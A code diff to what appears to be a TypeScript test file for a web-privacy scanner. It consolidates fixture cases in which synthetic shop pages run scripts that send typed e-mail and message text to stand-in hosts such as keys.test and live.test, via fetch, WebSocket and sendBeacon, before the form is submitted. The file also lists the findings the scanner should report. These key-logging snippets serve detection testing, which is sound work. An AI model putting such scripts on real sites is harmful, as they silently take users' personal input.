@@ -70,94 +70,67 @@ const hard: Technique = {
   },
 };
 
-const typing = (event: string, deed: boolean, sent: string) =>
-  page(
-    `<form action="/ask"><label>E-mail <input type=email name=mail></label><button>Send</button></form>${script(
-      `document.querySelector("input").addEventListener("${event}", async ({ target }) => {
-        const digest = async (text) => Array.from(new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text))),
-          (byte) => byte.toString(16).padStart(2, "0")).join("");
-        fetch("https://keys.test/k", { method: "POST", mode: "no-cors", body: ${deed ? sent : "String(target.value.length)"} });
-      });`,
-    )}`,
-  );
-
-const sent = {
-  "typed-text-before-submit": ["keys.test"],
-  "personal-data-to-third-parties": ["email → keys.test"],
-};
+const form = `<form action="/ask"><label>E-mail <input type=email name=mail></label>
+  <label>Message <textarea name=message></textarea></label><button>Send</button></form>`;
 
 const keys: Technique = {
-  title: "key logging",
-  visits: ["type"],
-  site: (deed) => ({ "shop.test/": typing("input", deed, "target.value"), "keys.test/k": "" }),
-  finds: {
-    "key-logging": { what: ["keys.test"], witness: /^disclosure email body https:\/\/keys\.test\/k$/ },
-  },
-  beside: sent,
-};
-
-const typed: Technique = {
-  title: "typed text sent as a hash before submitting, which is no key logging",
-  visits: ["type"],
-  site: (deed) => ({ "shop.test/": typing("change", deed, "await digest(target.value)"), "keys.test/k": "" }),
-  finds: {
-    "typed-text-before-submit": {
-      what: ["keys.test"],
-      witness: /^disclosure email body https:\/\/keys\.test\/k$/,
-    },
-    "personal-data-to-third-parties": {
-      what: ["email → keys.test"],
-      witness: /^disclosure email body https:\/\/keys\.test\/k$/,
-    },
-  },
-};
-
-const socket: Technique = {
-  title: "key logging through a socket, encoded",
+  title: "key logging, by requests and encoded through a socket",
   visits: ["type"],
   site: (deed) => ({
     "shop.test/": page(
-      `<form action="/ask"><label>Message <textarea name=message></textarea></label></form>${script(
-        `const socket = new WebSocket("wss://keys.test/live");
+      `${form}${script(
+        `const socket = new WebSocket("wss://live.test/keys");
+         const post = (body) => fetch("https://keys.test/k", { method: "POST", mode: "no-cors", body });
+         document.querySelector("input").addEventListener("input", ({ target }) => post(${deed ? "target.value" : "String(target.value.length)"}));
          document.querySelector("textarea").addEventListener("input", ({ target }) =>
            socket.send(JSON.stringify({ at: Date.now(), v: btoa(${deed ? "target.value.slice(0, 40)" : "target.value.length"}) })));`,
       )}`,
     ),
-    "keys.test/live": "",
+    "keys.test/k": "",
+    "live.test/keys": "",
   }),
   finds: {
     "key-logging": {
-      what: ["keys.test"],
-      witness: /^disclosure text message wss:\/\/keys\.test\/live$/,
+      what: ["keys.test", "live.test"],
+      witness: /^disclosure (email body https:\/\/keys\.test\/k|text message wss:\/\/live\.test\/keys)$/,
     },
   },
-  both: { "third-parties-before-choice": ["keys.test"] },
+  both: { "third-parties-before-choice": ["live.test"] },
   beside: {
-    "third-parties-before-choice": ["keys.test"],
-    "typed-text-before-submit": ["keys.test"],
-    "personal-data-to-third-parties": ["text → keys.test"],
+    "third-parties-before-choice": ["live.test"],
+    "typed-text-before-submit": ["keys.test", "live.test"],
+    "personal-data-to-third-parties": ["email → keys.test", "text → live.test"],
   },
 };
 
-const leaving: Technique = {
-  title: "typed text sent as the page is left",
+const typed: Technique = {
+  title: "typed text sent as a hash on a change and as the page is left, which is no key logging",
   visits: ["type"],
   site: (deed) => ({
     "shop.test/": page(
-      `<form action="/ask"><label>Phone <input type=tel name=phone></label></form>${script(
-        `addEventListener("pagehide", () => navigator.sendBeacon("https://keys.test/k",
-           JSON.stringify({ field: ${deed ? 'document.querySelector("input").value' : '"phone"'} })));`,
+      `${form}${script(
+        `const mail = document.querySelector("input");
+         const digest = async (text) => Array.from(new Uint8Array(await crypto.subtle.digest("SHA-256", new TextEncoder().encode(text))),
+           (byte) => byte.toString(16).padStart(2, "0")).join("");
+         mail.addEventListener("change", async () =>
+           fetch("https://hash.test/k", { method: "POST", mode: "no-cors", body: ${deed ? "await digest(mail.value)" : "String(mail.value.length)"} }));
+         addEventListener("pagehide", () => navigator.sendBeacon("https://left.test/k",
+           JSON.stringify({ field: ${deed ? 'document.querySelector("textarea").value' : '"message"'} })));`,
       )}`,
     ),
-    "keys.test/k": "",
+    "hash.test/k": "",
+    "left.test/k": "",
   }),
   finds: {
     "typed-text-before-submit": {
-      what: ["keys.test"],
-      witness: /^disclosure phone body https:\/\/keys\.test\/k$/,
+      what: ["hash.test", "left.test"],
+      witness: /^disclosure (email body https:\/\/hash|text body https:\/\/left)\.test\/k$/,
+    },
+    "personal-data-to-third-parties": {
+      what: ["email → hash.test", "text → left.test"],
+      witness: /^disclosure (email body https:\/\/hash|text body https:\/\/left)\.test\/k$/,
     },
   },
-  beside: { "personal-data-to-third-parties": ["phone → keys.test"] },
 };
 
-export const choices: readonly Technique[] = [early, refusal, hard, keys, socket, typed, leaving];
+export const choices: readonly Technique[] = [early, refusal, hard, keys, typed];
